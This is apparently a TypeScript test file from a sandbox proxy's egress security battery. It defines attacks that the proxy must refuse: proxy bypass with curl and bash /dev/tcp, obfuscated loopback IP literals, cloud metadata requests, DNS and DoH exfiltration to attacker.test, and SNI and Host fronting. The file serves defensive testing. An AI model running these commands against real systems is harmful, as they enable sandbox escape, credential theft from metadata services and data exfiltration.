/**
 * The egress battery's attacks (docs/security.md, sandbox.md §7): what each one does inside
 * the sandbox (a spec test/security/container/attacks.mjs interprets) and how the host
 * judges what it observed: the client's view, network.jsonl, and the recording servers and
 * canary that must have seen nothing.
 */
import type { NetworkEntry } from '../../src/proxy/log.js'
import { PLACEHOLDERS } from '../../src/providers/defaults.js'
import type { CanaryHit } from './support/canary.js'
import type { HostileRequest } from './support/hostile-upstream.js'
import type { CheckResult } from './support/results.js'

/** Domain of every name the battery uses (none of them exists outside the test). */
export const DOMAIN = 'airlock-sec.test'
export const NAMES = {
  allowed: `allowed.${DOMAIN}`,
  custom: `custom.${DOMAIN}`,
  plain: `plain.${DOMAIN}`,
  evil: `evil.${DOMAIN}`,
  wild: `wild.${DOMAIN}`,
  wildA: `a.wild.${DOMAIN}`,
  rebind: `rebind.${DOMAIN}`,
  wildRebind: `wildrebind.${DOMAIN}`
} as const

/** Where the battery's listeners are and what the runner's own addresses are. */
export interface BatteryEnv {
  /** The canary's port (TCP and UDP, every local address). */
  canary: number
  /** A non-loopback IPv4 and IPv6 address of the runner (fallbacks when there is none). */
  runnerV4: string
  runnerV6: string
}

/** What a check can look at after the run. */
export interface CheckCtx {
  net: NetworkEntry[]
  /** The HTTPS upstream (every allowed name routes there) and the plain-HTTP one. */
  up: HostileRequest[]
  plainUp: HostileRequest[]
  canary: CanaryHit[]
  /** Real credential values: the container must never see one. */
  secrets: string[]
}

/** Observations are whatever attacks.mjs printed for the attack. */
// eslint-disable-next-line @typescript-eslint/no-explicit-any
export type Observed = any

export interface AttackDef {
  id: string
  cls: number
  title: string
  spec: { kind: string } & Record<string, unknown>
  check: (o: Observed, ctx: CheckCtx) => CheckResult
}

/** A marker for an attack's request path, distinct for `3.1` and `3.10`. */
export const mark = (id: string): string => `sec-${id.replace(/\./g, '-')}-x`

const NO_ROUTE = new Set(['ENETUNREACH', 'EHOSTUNREACH', 'ENETDOWN', 'EADDRNOTAVAIL', 'EAI_AGAIN'])

function describe(o: Observed): string {
  if (o === undefined) return 'no observation'
  if (o.exception) return `exception ${String(o.exception).split('\n')[0]}`
  if (o.status !== undefined) return `HTTP ${o.status}${o.blocked ? ` (${o.blocked})` : ''}`
  if (o.error) return `error ${o.error}`
  return JSON.stringify(o).slice(0, 200)
}

/** Whether network.jsonl holds a refusal for one of reasons whose URL contains fragment. */
function logged(ctx: CheckCtx, reasons: string[], fragment: string, p: string[]): void {
  const f = fragment.toLowerCase()
  const hit = ctx.net.some(
    (e) => e.blocked !== undefined && reasons.includes(e.blocked) && e.url.toLowerCase().includes(f)
  )
  if (!hit) p.push(`network.jsonl has no ${reasons.join('/')} refusal for ${fragment}`)
}

/** No recording server saw a request carrying marker. */
function notReached(ctx: CheckCtx, marker: string, p: string[]): void {
  const seen = [...ctx.up, ...ctx.plainUp].filter((r) => r.url.includes(marker))
  if (seen.length > 0)
    p.push(`${seen.length} request(s) reached an upstream: ${seen.map((r) => r.url).join(', ')}`)
}

/** A proxy refusal: 403, X-Airlock-Blocked one of reasons, logged, nothing reached. */
function refused(
  reasons: string[],
  opts: { log?: string; marker?: string; parserMayRefuse?: boolean } = {}
): AttackDef['check'] {
  return (o, ctx) => {
    const p: string[] = []
    // A request line Node's HTTP parser rejects never reaches the policy: 400, not logged.
    if (opts.parserMayRefuse && o?.status === 400)
      return { outcome: 'refused by the HTTP parser (400)', problems: [] }
    if (o?.status !== 403) p.push(`expected a 403 refusal, got ${describe(o)}`)
    else if (!reasons.includes(String(o.blocked)))
      p.push(`refused as "${o.blocked}", expected ${reasons.join(' or ')}`)
    if (opts.log !== undefined) logged(ctx, reasons, opts.log, p)
    if (opts.marker) notReached(ctx, opts.marker, p)
    return {
      outcome: p.length ? `not refused as expected: ${describe(o)}` : `refused (403 ${o.blocked})`,
      problems: p
    }
  }
}

/** A direct connection (ignoring the proxy) that must find no route at all. */
function noRoute(): AttackDef['check'] {
  return (o) => {
    const p: string[] = []
    const results = (o?.results ?? []) as Array<{
      host: string
      connected?: boolean
      error?: string
    }>
    if (results.length === 0) p.push(`no result: ${describe(o)}`)
    for (const r of results) {
      if (r.connected) p.push(`CONNECTED to ${r.host}`)
      else if (!NO_ROUTE.has(r.error ?? '')) p.push(`${r.host}: ${r.error} (expected no route)`)
    }
    return { outcome: p.length ? 'a route exists' : 'no route (network unreachable)', problems: p }
  }
}

/** A curl run inside the sandbox; its script prints `EXIT=<code> HTTP=<code> CONNECT=<code>`. */
function curlLine(o: Observed): { exit: number; http: string; connect: string } {
  const m = /EXIT=(\d+) HTTP=(\d+) CONNECT=(\d+)/.exec(String(o?.stdout ?? ''))
  return { exit: Number(m?.[1] ?? -1), http: m?.[2] ?? '?', connect: m?.[3] ?? '?' }
}

const curl = (args: string): string =>
  `rm -f /tmp/curl-body /tmp/curl-w; curl -sS --max-time 10 -o /tmp/curl-body -w 'HTTP=%{http_code} CONNECT=%{http_connect}' ${args} > /tmp/curl-w 2>/tmp/curl-err; echo "EXIT=$? $(cat /tmp/curl-w)"; head -c 4000 /tmp/curl-body`

/** curl failed to get anything from the target; when `reasons`, the proxy logged a refusal. */
function curlRefused(
  opts: { reasons?: string[]; log?: string; marker?: string } = {}
): AttackDef['check'] {
  return (o, ctx) => {
    const c = curlLine(o)
    const p: string[] = []
    const refusedByProxy = c.http === '403' || c.connect === '403'
    if (c.exit === 0 && !refusedByProxy) p.push(`curl succeeded (HTTP ${c.http})`)
    if (c.exit === -1) p.push(`curl did not run: ${describe(o)}`)
    if (opts.reasons && opts.log !== undefined) logged(ctx, opts.reasons, opts.log, p)
    if (opts.marker) notReached(ctx, opts.marker, p)
    const outcome = p.length
      ? `not refused: curl exit ${c.exit}, HTTP ${c.http}`
      : refusedByProxy
        ? `refused (403${opts.reasons ? ` ${opts.reasons[0]}` : ''})`
        : 'fails closed (no route)'
    return { outcome, problems: p }
  }
}

/** A python probe whose JSON values must all be errors (numbers) rather than `SUCCEEDED`/`SENT`. */
function allDenied(what: string): AttackDef['check'] {
  return (o) => {
    const p: string[] = []
    const r = o?.py as Record<string, unknown> | undefined
    if (!r) p.push(`probe failed: ${describe(o)} ${String(o?.stderr ?? '')}`)
    for (const [k, v] of Object.entries(r ?? {}))
      if (typeof v !== 'number' && typeof v !== 'string') p.push(`${k}: ${JSON.stringify(v)}`)
      else if (v === 'SUCCEEDED' || v === 'SENT' || v === 'CONNECTED') p.push(`${k} ${v}`)
    return { outcome: p.length ? `${what} possible` : what, problems: p }
  }
}

const py = (code: string): { kind: string; code: string } => ({ kind: 'py', code })

/** Python prelude: `probe(name, fn)` records the errno of an OSError, or the string result. */
const PY = `
import ctypes, errno, fcntl, json, os, socket, struct
out = {}
def probe(name, fn):
    try:
        out[name] = fn()
    except OSError as e:
        out[name] = e.errno if e.errno is not None else -1
    except Exception as e:
        out[name] = type(e).__name__
def in_child(fn):
    # Namespace calls change the caller: run each in a throwaway child.
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        try:
            res = fn()
        except OSError as e:
            res = e.errno
        os.write(w, json.dumps(res).encode())
        os._exit(0)
    os.close(w)
    os.waitpid(pid, 0)
    return json.loads(os.read(r, 100) or b'"NO-RESULT"')
libc = ctypes.CDLL(None, use_errno=True)
def sys(fn, *a):
    return 'SUCCEEDED' if fn(*a) == 0 else ctypes.get_errno()
def udp(host, port, fam=socket.AF_INET):
    s = socket.socket(fam, socket.SOCK_DGRAM)
    try:
        s.sendto(b'airlock-security-probe', (host, port))
        return 'SENT'
    finally:
        s.close()
`

const tunnelReq = (host: string, path: string, extra = ''): string =>
  `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n${extra}\r\n`

/** Every attack of the block-mode run. */
export function blockModeAttacks(env: BatteryEnv): AttackDef[] {
  const P = env.canary
  const A = NAMES.allowed
  const R = NAMES.rebind
  const list: AttackDef[] = []
  const add = (
    id: string,
    title: string,
    spec: AttackDef['spec'],
    check: AttackDef['check']
  ): void => {
    list.push({ id, cls: Number(id.split('.')[0]), title, spec, check })
  }
  const connect = (authority: string, extra: Record<string, unknown> = {}): AttackDef['spec'] => ({
    kind: 'connect',
    authority,
    ...extra
  })
  const plain = (raw: string, extra: Record<string, unknown> = {}): AttackDef['spec'] => ({
    kind: 'plain',
    raw,
    ...extra
  })
  const get = (url: string, host: string, extra = ''): string =>
    `GET ${url} HTTP/1.1\r\nHost: ${host}\r\nProxy-Authorization: {{AUTH}}\r\n${extra}\r\n`

  // 1 — the proxy variables ignored: no route at all.
  add(
    '1.1',
    '`curl --noproxy "*"` to an allowed host',
    { kind: 'sh', cmd: curl(`--noproxy '*' https://${A}/echo?${mark('1.1')}`) },
    curlRefused({ marker: mark('1.1') })
  )
  add(
    '1.2',
    'Node `fetch` with every proxy variable removed',
    {
      kind: 'sh',
      cmd: `env -i PATH="$PATH" node -e "fetch('https://${A}/echo?${mark('1.2')}').then(r => console.log('REACHED', r.status), e => console.log('FAILED', e.cause && e.cause.code))"`
    },
    (o, ctx) => {
      const p: string[] = []
      if (!String(o?.stdout).includes('FAILED')) p.push(`fetch: ${String(o?.stdout)}`)
      notReached(ctx, mark('1.2'), p)
      return { outcome: p.length ? 'reached' : 'fails closed (no route)', problems: p }
    }
  )
  add(
    '1.3',
    'Python urllib with an empty ProxyHandler',
    py(
      `${PY}
import urllib.request
def go():
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    opener.open('https://${A}/echo?${mark('1.3')}', timeout=5)
    return 'SUCCEEDED'
probe('urllib', go)
print(json.dumps({k: (v if not isinstance(v, str) or v == 'SUCCEEDED' else 'error') for k, v in out.items()}))`
    ),
    (o, ctx) => {
      const r = allDenied('fails closed (no route)')(o, ctx)
      notReached(ctx, mark('1.3'), r.problems)
      return r
    }
  )
  add(
    '1.4',
    'raw TCP to the runner itself (docker0, its own IPv4) at the canary port',
    {
      kind: 'tcp',
      targets: [
        ['172.17.0.1', P],
        [env.runnerV4, P],
        ['10.0.0.1', 443]
      ]
    },
    noRoute()
  )
  add(
    '1.5',
    'raw TCP to public addresses (1.1.1.1:443, 140.82.112.3:443)',
    {
      kind: 'tcp',
      targets: [
        ['1.1.1.1', 443],
        ['140.82.112.3', 443]
      ]
    },
    noRoute()
  )
  add(
    '1.6',
    'bash `/dev/tcp` to docker0',
    {
      kind: 'sh',
      cmd: `bash -c 'exec 3<>/dev/tcp/172.17.0.1/${P} && echo CONNECTED' 2>&1; echo EXIT=$?`
    },
    (o) => {
      const out = String(o?.stdout)
      const p = out.includes('CONNECTED') || !/EXIT=[1-9]/.test(out) ? [`bash: ${out}`] : []
      return { outcome: p.length ? 'connected' : 'fails closed (no route)', problems: p }
    }
  )
  add(
    '1.7',
    'git with `http.proxy` emptied',
    {
      kind: 'sh',
      cmd: `git -c http.proxy= ls-remote https://${A}/${mark('1.7')}/repo.git > /tmp/git-out 2>&1; echo EXIT=$?; tail -n 2 /tmp/git-out`
    },
    (o, ctx) => {
      const out = String(o?.stdout)
      const p = /EXIT=0\b/.test(out) ? [out] : []
      notReached(ctx, mark('1.7'), p)
      return { outcome: p.length ? 'reached' : 'fails closed (no route)', problems: p }
    }
  )
  add(
    '1.8',
    'network interfaces and routes visible in the sandbox',
    {
      kind: 'sh',
      cmd: 'ls /sys/class/net | tr "\\n" " "; echo; tail -n +2 /proc/net/route | wc -l'
    },
    (o) => {
      const [ifaces = '', routes = ''] = String(o?.stdout).trim().split('\n')
      const p: string[] = []
      if (ifaces.trim() !== 'lo') p.push(`interfaces: ${ifaces}`)
      if (routes.trim() !== '0') p.push(`IPv4 routes: ${routes}`)
      return { outcome: p.length ? 'has a network' : 'loopback only, no routes', problems: p }
    }
  )

  // 2 — IPv6.
  add(
    '2.1',
    'raw TCP over IPv6 (2606:4700:4700::1111, the runner’s IPv6 address)',
    {
      kind: 'tcp',
      targets: [
        ['2606:4700:4700::1111', 443],
        [env.runnerV6, P]
      ]
    },
    noRoute()
  )
  add(
    '2.2',
    '`CONNECT [2606:4700:4700::1111]:443`',
    connect('[2606:4700:4700::1111]:443'),
    refused(['ip-literal'], { log: '2606:4700:4700::1111' })
  )
  add(
    '2.3',
    '`curl -6 https://[2606:4700:4700::1111]/` through the proxy',
    { kind: 'sh', cmd: curl('-6 https://[2606:4700:4700::1111]/') },
    curlRefused({ reasons: ['ip-literal'], log: '2606:4700:4700::1111' })
  )
  add(
    '2.4',
    '`CONNECT [::1]` (canary port)',
    connect(`[::1]:${P}`),
    refused(['ip-literal'], { log: `::1:${P}` })
  )
  for (const [i, form] of [
    ['5', '::ffff:127.0.0.1'],
    ['6', '::ffff:7f00:1'],
    ['7', '0:0:0:0:0:ffff:7f00:1']
  ] as const)
    add(
      `2.${i}`,
      `\`CONNECT [${form}]\` (IPv4-mapped loopback)`,
      connect(`[${form}]:${P}`),
      refused(['ip-literal'])
    )
  add(
    '2.8',
    '`CONNECT [::ffff:169.254.169.254]:80` (IPv4-mapped metadata)',
    connect('[::ffff:169.254.169.254]:80'),
    refused(['metadata'])
  )
  add(
    '2.9',
    'allowed name whose only address is `::1` (AAAA-only)',
    connect(`loop6.${R}:${P}`),
    refused(['private-address'], { log: `loop6.${R}` })
  )
  add(
    '2.10',
    'allowed name resolving to `::ffff:127.0.0.1`',
    connect(`mapped.${R}:${P}`),
    refused(['private-address'], { log: `mapped.${R}` })
  )
  add(
    '2.11',
    'allowed name resolving to the runner’s own IPv6 address',
    connect(`self6.${R}:${P}`),
    refused(['private-address'], { log: `self6.${R}` })
  )

  // 3 — IP literals, every notation, aimed at the canary.
  const loopForms: Array<[string, string]> = [
    ['127.0.0.1', 'dotted'],
    ['2130706433', 'decimal'],
    ['0x7f000001', 'hex'],
    ['0177.0.0.1', 'octal'],
    ['0x7f.0.0.1', 'hex first octet'],
    ['127.1', 'short'],
    ['127.0.1', 'three-part'],
    ['017700000001', 'octal integer'],
    ['127.000.000.001', 'zero-padded'],
    ['127.0.0.1.', 'trailing dot'],
    ['0.0.0.0', 'unspecified (Linux dials loopback)'],
    ['0', 'bare zero'],
    ['[::]', 'IPv6 unspecified'],
    ['[0:0:0:0:0:0:0:1]', 'IPv6 loopback, long form'],
    ['[::127.0.0.1]', 'IPv4-compatible IPv6'],
    ['[64:ff9b::7f00:1]', 'NAT64 of loopback'],
    ['[2002:7f00:1::1]', '6to4 of loopback'],
    ['172.17.0.1', 'docker0'],
    [env.runnerV4, 'the runner’s own IPv4'],
    ['10.0.0.1', 'RFC 1918'],
    ['100.64.0.1', 'CGNAT']
  ]
  loopForms.forEach(([form, what], i) =>
    add(
      `3.${i + 1}`,
      `\`CONNECT\` to an IP literal: ${what}${what.includes('runner') ? '' : ` (\`${form}\`)`}`,
      connect(`${form}:${P}`),
      refused(['ip-literal'])
    )
  )
  const n3 = loopForms.length
  add(
    `3.${n3 + 1}`,
    '`CONNECT 1.1.1.1:443` (public IP literal)',
    connect('1.1.1.1:443'),
    refused(['ip-literal'], { log: '1.1.1.1:443' })
  )
  add(
    `3.${n3 + 2}`,
    '`CONNECT 140.82.112.3:443` (a github.com address)',
    connect('140.82.112.3:443'),
    refused(['ip-literal'], { log: '140.82.112.3:443' })
  )
  add(
    `3.${n3 + 3}`,
    '`curl https://1.1.1.1/`',
    { kind: 'sh', cmd: curl('https://1.1.1.1/') },
    curlRefused({ reasons: ['ip-literal'], log: '1.1.1.1' })
  )
  for (const [k, host] of [
    [4, '2130706433'],
    [5, '0x7f.1'],
    [6, '[::1]'],
    [7, '0177.0.0.1']
  ] as const)
    add(
      `3.${n3 + k}`,
      `plain HTTP \`GET http://${host}/\` (absolute-form)`,
      plain(get(`http://${host}:${P}/${mark(`3.${n3 + k}`)}`, `${host}:${P}`)),
      refused(['ip-literal'])
    )

  // 4 — metadata.
  add(
    '4.1',
    '`CONNECT 169.254.169.254:80`',
    connect('169.254.169.254:80'),
    refused(['metadata'], { log: '169.254.169.254:80' })
  )
  add('4.2', '`CONNECT 169.254.169.254:443`', connect('169.254.169.254:443'), refused(['metadata']))
  add(
    '4.3',
    'IMDSv1 `GET http://169.254.169.254/latest/meta-data/`',
    plain(get('http://169.254.169.254/latest/meta-data/', '169.254.169.254')),
    refused(['metadata'], { log: 'http://169.254.169.254/latest/meta-data/' })
  )
  add(
    '4.4',
    'IMDSv2 token `PUT http://169.254.169.254/latest/api/token`',
    plain(
      'PUT http://169.254.169.254/latest/api/token HTTP/1.1\r\nHost: 169.254.169.254\r\nProxy-Authorization: {{AUTH}}\r\nX-aws-ec2-metadata-token-ttl-seconds: 21600\r\nContent-Length: 0\r\n\r\n'
    ),
    refused(['metadata'], { log: '/latest/api/token' })
  )
  add(
    '4.5',
    'GCE `GET http://metadata.google.internal/computeMetadata/v1/`',
    plain(
      get(
        'http://metadata.google.internal/computeMetadata/v1/',
        'metadata.google.internal',
        'Metadata-Flavor: Google\r\n'
      )
    ),
    refused(['metadata'], { log: 'metadata.google.internal' })
  )
  add(
    '4.6',
    '`CONNECT metadata.google.internal:443`',
    connect('metadata.google.internal:443'),
    refused(['metadata'])
  )
  add(
    '4.7',
    'plain HTTP to `metadata` (single label)',
    plain(get('http://metadata/', 'metadata')),
    refused(['metadata'])
  )
  add(
    '4.8',
    'plain HTTP to `instance-data`',
    plain(get('http://instance-data/latest/', 'instance-data')),
    refused(['metadata'])
  )
  add(
    '4.9',
    'Azure wireserver `168.63.129.16`',
    plain(get('http://168.63.129.16/', '168.63.129.16')),
    refused(['metadata'])
  )
  add(
    '4.10',
    'AWS IPv6 IMDS `[fd00:ec2::254]`',
    plain(get('http://[fd00:ec2::254]/latest/meta-data/', '[fd00:ec2::254]')),
    refused(['metadata'])
  )
  add(
    '4.11',
    'decimal `http://2852039166/`',
    plain(get('http://2852039166/latest/meta-data/', '2852039166')),
    refused(['metadata'])
  )
  add('4.12', 'hex `CONNECT 0xa9fea9fe:80`', connect('0xa9fea9fe:80'), refused(['metadata']))
  add(
    '4.13',
    '`CONNECT [::ffff:a9fe:a9fe]:80`',
    connect('[::ffff:a9fe:a9fe]:80'),
    refused(['metadata'])
  )
  add(
    '4.14',
    'allowed name resolving to 169.254.169.254 (rebinding), HTTPS',
    connect(`meta.${R}:443`),
    refused(['metadata'], { log: `meta.${R}` })
  )
  add(
    '4.15',
    'allowed name resolving to 169.254.169.254, plain HTTP',
    plain(get(`http://meta.${R}/latest/meta-data/`, `meta.${R}`)),
    refused(['metadata'], { log: `http://meta.${R}/latest/meta-data/` })
  )
  add(
    '4.16',
    'allowed name resolving to fd00:ec2::254',
    connect(`meta6.${R}:443`),
    refused(['metadata'])
  )
  add(
    '4.17',
    'allowed name resolving to 168.63.129.16',
    connect(`azure.${R}:443`),
    refused(['metadata'])
  )
  add(
    '4.18',
    '302 from an allowed host to the metadata address (not followed)',
    {
      kind: 'sh',
      cmd: `curl -sS --max-time 10 -o /dev/null -w 'EXIT=0 HTTP=%{http_code} CONNECT=%{http_connect} LOCATION=%{redirect_url}' 'https://${A}/redirect?to=http://169.254.169.254/latest/meta-data/&${mark('4.18')}'`
    },
    (o, ctx) => {
      const out = String(o?.stdout)
      const p: string[] = []
      if (!out.includes('HTTP=302')) p.push(`expected the 302 to reach the client: ${out}`)
      if (!out.includes('LOCATION=http://169.254.169.254/')) p.push(`Location lost: ${out}`)
      const reached = ctx.up.filter((r) => r.url.includes(mark('4.18')))
      if (reached.length !== 1) p.push(`the upstream saw ${reached.length} requests, expected 1`)
      return {
        outcome: p.length ? 'unexpected' : '302 returned to the client, not followed',
        problems: p
      }
    }
  )
  add(
    '4.19',
    'the client follows that redirect itself (`curl -L`)',
    {
      kind: 'sh',
      cmd: curl(
        `-L 'https://${A}/redirect?to=http://169.254.169.254/latest/meta-data/&${mark('4.19')}'`
      )
    },
    (o, ctx) => {
      const c = curlLine(o)
      const p: string[] = []
      if (c.http !== '403') p.push(`the followed request got HTTP ${c.http}`)
      logged(ctx, ['metadata'], 'http://169.254.169.254/latest/meta-data/', p)
      return {
        outcome: p.length ? 'followed' : 'the follow-up request is refused (403 metadata)',
        problems: p
      }
    }
  )

  // 5 — allowed names that resolve to the runner, loopback or private ranges (canary port).
  const rebinds: Array<[string, string]> = [
    ['loop', '127.0.0.1'],
    ['docker0', '172.17.0.1 (docker0)'],
    ['self', 'the runner’s own IPv4'],
    ['ten', '10.0.0.1'],
    ['cgnat', '100.64.0.1 (CGNAT)'],
    ['zero', '0.0.0.0'],
    ['mixed', 'a public and a loopback address']
  ]
  rebinds.forEach(([label, what], i) =>
    add(
      `5.${i + 1}`,
      `allowed name resolving to ${what}`,
      connect(`${label}.${R}:${P}`),
      refused(['private-address'], { log: `${label}.${R}` })
    )
  )
  const n5 = rebinds.length
  add(
    `5.${n5 + 1}`,
    'name under an allowed wildcard resolving to 127.0.0.1',
    connect(`x.${NAMES.wildRebind}:${P}`),
    refused(['private-address'], { log: `x.${NAMES.wildRebind}` })
  )
  add(
    `5.${n5 + 2}`,
    '`curl` to an allowed name resolving to 127.0.0.1',
    { kind: 'sh', cmd: curl(`https://loop.${R}:${P}/${mark(`5.${n5 + 2}`)}`) },
    curlRefused({ reasons: ['private-address'], log: `loop.${R}` })
  )
  for (const [k, name] of [
    [3, 'localhost'],
    [4, 'LOCALHOST'],
    [5, 'anything.localhost'],
    [6, 'ip6-localhost'],
    [7, 'localhost.localdomain']
  ] as const)
    add(
      `5.${n5 + k}`,
      `\`CONNECT ${name}\` (canary port)`,
      connect(`${name}:${P}`),
      refused(['localhost'])
    )

  // 6 — DNS exfiltration: there is no resolver to reach.
  add(
    '6.1',
    'resolve `<data>.attacker.test` with the system resolver',
    py(`${PY}
probe('getaddrinfo', lambda: socket.getaddrinfo('c2VjcmV0.exfil.attacker.test', 443) and 'SUCCEEDED')
print(json.dumps(out))`),
    (o) => {
      const r = o?.py?.getaddrinfo
      const p = r === 'SUCCEEDED' || r === undefined ? [`getaddrinfo: ${JSON.stringify(o)}`] : []
      return { outcome: p.length ? 'resolved' : 'no resolver reachable', problems: p }
    }
  )
  add(
    '6.2',
    'DNS over UDP to 8.8.8.8, to /etc/resolv.conf’s server, and to the runner',
    py(`${PY}
ns = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')] or ['127.0.0.11']
probe('google', lambda: udp('8.8.8.8', 53))
probe('resolv_conf', lambda: udp(ns[0], 53, socket.AF_INET6 if ':' in ns[0] else socket.AF_INET))
probe('docker0', lambda: udp('172.17.0.1', ${P}))
probe('runner', lambda: udp('${env.runnerV4}', ${P}))
print(json.dumps(out))`),
    allDenied('no route for UDP')
  )
  add('6.3', 'DNS over TCP to 8.8.8.8:53', { kind: 'tcp', targets: [['8.8.8.8', 53]] }, noRoute())
  add(
    '6.4',
    'DoH through the proxy (`dns.google`, `cloudflare-dns.com`)',
    {
      kind: 'sh',
      cmd: `${curl("'https://dns.google/resolve?name=c2VjcmV0.attacker.test'")}; echo; ${curl("'https://cloudflare-dns.com/dns-query?name=x.attacker.test'")}`
    },
    (o, ctx) => {
      const p: string[] = []
      const lines = String(o?.stdout).match(/EXIT=\d+ HTTP=\d+ CONNECT=\d+/g) ?? []
      if (lines.length !== 2 || lines.some((l) => !l.includes('CONNECT=403')))
        p.push(`DoH: ${lines.join(' | ')}`)
      logged(ctx, ['not-allowed'], 'dns.google:443', p)
      logged(ctx, ['not-allowed'], 'cloudflare-dns.com:443', p)
      return { outcome: p.length ? 'DoH reachable' : 'refused (403 not-allowed)', problems: p }
    }
  )
  add('6.5', 'DoT `CONNECT 1.1.1.1:853`', connect('1.1.1.1:853'), refused(['ip-literal']))
  add('6.6', 'DoT `CONNECT dns.google:853`', connect('dns.google:853'), refused(['not-allowed']))
  add(
    '6.7',
    'a refused name is never looked up by the proxy (it would resolve to metadata)',
    connect(`notallowed-meta.${DOMAIN}:443`),
    refused(['not-allowed'], { log: `notallowed-meta.${DOMAIN}` })
  )

  // 7 — other ports of an allowed host.
  for (const [k, port] of [
    [1, 22],
    [2, 25],
    [3, 8443]
  ] as const)
    add(
      `7.${k}`,
      `\`CONNECT api.github.com:${port}\``,
      connect(`api.github.com:${port}`),
      refused(['port-not-allowed'], { log: `api.github.com:${port}` })
    )
  add(
    '7.4',
    '`CONNECT` an allowed host on the canary port',
    connect(`${A}:${P}`),
    refused(['port-not-allowed'])
  )
  add(
    '7.5',
    'plain HTTP to an HTTP-allowed host on another port',
    plain(get(`http://${NAMES.plain}:${P}/${mark('7.5')}`, `${NAMES.plain}:${P}`)),
    refused(['port-not-allowed'], { marker: mark('7.5') })
  )
  add(
    '7.6',
    '`CONNECT` an allowed host on port 0',
    connect(`${A}:0`),
    refused(['invalid-host', 'port-not-allowed'])
  )

  // 8 — SNI ≠ CONNECT.
  add(
    '8.1',
    'TLS with SNI `evil` inside a tunnel CONNECTed to an allowed host',
    {
      kind: 'tunnel',
      authority: `${A}:443`,
      sni: NAMES.evil,
      requests: [tunnelReq(NAMES.evil, `/echo?${mark('8.1')}`)]
    },
    (o, ctx) => {
      const p: string[] = []
      if (o?.tls === 'ok') p.push('the TLS handshake with a foreign SNI succeeded')
      logged(ctx, ['sni-mismatch'], `SNI ${NAMES.evil}`, p)
      notReached(ctx, mark('8.1'), p)
      return { outcome: p.length ? 'fronted' : 'handshake refused (sni-mismatch)', problems: p }
    }
  )
  add(
    '8.2',
    'SNI of another allowed, credentialed host (`api.github.com`) inside an allowed tunnel',
    {
      kind: 'tunnel',
      authority: `${A}:443`,
      sni: 'api.github.com',
      requests: [tunnelReq('api.github.com', `/echo?${mark('8.2')}`)]
    },
    (o, ctx) => {
      const p: string[] = []
      if (o?.tls === 'ok') p.push('the TLS handshake with a foreign SNI succeeded')
      logged(ctx, ['sni-mismatch'], 'SNI api.github.com', p)
      notReached(ctx, mark('8.2'), p)
      return { outcome: p.length ? 'fronted' : 'handshake refused (sni-mismatch)', problems: p }
    }
  )
  add(
    '8.3',
    'curl domain fronting: `--connect-to evil:443:allowed:443`',
    {
      kind: 'sh',
      cmd: curl(`--connect-to ${NAMES.evil}:443:${A}:443 https://${NAMES.evil}/echo?${mark('8.3')}`)
    },
    curlRefused({ marker: mark('8.3') })
  )
  add(
    '8.4',
    'no SNI at all, then `Host: evil`',
    {
      kind: 'tunnel',
      authority: `${A}:443`,
      sni: null,
      requests: [tunnelReq(NAMES.evil, `/echo?${mark('8.4')}`)]
    },
    (o, ctx) => {
      const p: string[] = []
      const r = o?.responses?.[0]
      if (o?.tls === 'ok' && r?.status !== 403) p.push(`request answered ${describe(r)}`)
      notReached(ctx, mark('8.4'), p)
      return { outcome: p.length ? 'reached' : 'refused (403 host-mismatch)', problems: p }
    }
  )
  add(
    '8.5',
    'ALPN offering only `h2`',
    { kind: 'tunnel', authority: `${A}:443`, alpn: ['h2'], requests: [] },
    (o) => {
      const p = o?.alpn === 'h2' ? ['negotiated h2, which the proxy does not bind'] : []
      return {
        outcome: p.length ? 'h2 negotiated' : 'h2 never negotiated (HTTP/1.1 only)',
        problems: p
      }
    }
  )

  // 9 — Host ≠ SNI on later requests of a keep-alive tunnel.
  const keepAlive = (id: string, title: string, second: string): void =>
    add(
      id,
      title,
      {
        kind: 'tunnel',
        authority: `${A}:443`,
        // The legitimate first request carries another marker: mark('9.1.0') ∌ mark('9.1').
        requests: [tunnelReq(A, `/echo?${mark(`${id}.0`)}`), second]
      },
      (o, ctx) => {
        const p: string[] = []
        if (o?.responses?.[0]?.status !== 200)
          p.push(`the first (legitimate) request failed: ${describe(o?.responses?.[0])}`)
        const r = o?.responses?.[1]
        if (r?.status === 200) p.push('the second request was answered 200')
        notReached(ctx, mark(id), p)
        return {
          outcome: p.length
            ? 'rebound'
            : `second request refused (${r?.status ?? r?.error}${r?.blocked ? ` ${r.blocked}` : ''})`,
          problems: p
        }
      }
    )
  keepAlive(
    '9.1',
    'second keep-alive request with `Host: evil`',
    tunnelReq(NAMES.evil, `/echo?${mark('9.1')}`)
  )
  keepAlive(
    '9.2',
    'second keep-alive request with `Host: api.github.com` (a credentialed host)',
    tunnelReq('api.github.com', `/echo?${mark('9.2')}`)
  )
  keepAlive(
    '9.3',
    'second request with the allowed host on another port',
    tunnelReq(`${A}:8443`, `/echo?${mark('9.3')}`)
  )
  keepAlive(
    '9.4',
    'second request with a trailing-dot Host',
    tunnelReq(`${A}.`, `/echo?${mark('9.4')}`)
  )
  keepAlive(
    '9.5',
    'second request with no Host header',
    `GET /echo?${mark('9.5')} HTTP/1.1\r\n\r\n`
  )
  add(
    '9.6',
    'two Host headers (allowed, then evil)',
    {
      kind: 'tunnel',
      authority: `${A}:443`,
      requests: [`GET /echo?${mark('9.6')} HTTP/1.1\r\nHost: ${A}\r\nHost: ${NAMES.evil}\r\n\r\n`]
    },
    (o, ctx) => {
      const p: string[] = []
      const seen = ctx.up.filter((r) => r.url.includes(mark('9.6')))
      for (const r of seen)
        if (String(r.headers.host) !== A || r.servername !== A)
          p.push(`upstream saw Host ${String(r.headers.host)} SNI ${r.servername}`)
      const status = o?.responses?.[0]?.status
      return {
        outcome: p.length
          ? 'evil Host forwarded'
          : seen.length
            ? 'forwarded to the allowed origin only'
            : `refused (${status})`,
        problems: p
      }
    }
  )
  add(
    '9.7',
    'HTTP/2 prior-knowledge preface inside the tunnel',
    {
      kind: 'tunnel',
      authority: `${A}:443`,
      requests: [
        { hex: Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n').toString('hex'), timeout: 3000 }
      ]
    },
    (o, ctx) => {
      const r = o?.responses?.[0]
      const p = r?.status !== undefined && r.status < 400 ? [`answered ${describe(r)}`] : []
      const h2 = ctx.up.filter((x) => x.method === 'PRI')
      if (h2.length) p.push('the preface reached the upstream')
      return { outcome: p.length ? 'h2 accepted' : 'refused (not HTTP/1.1)', problems: p }
    }
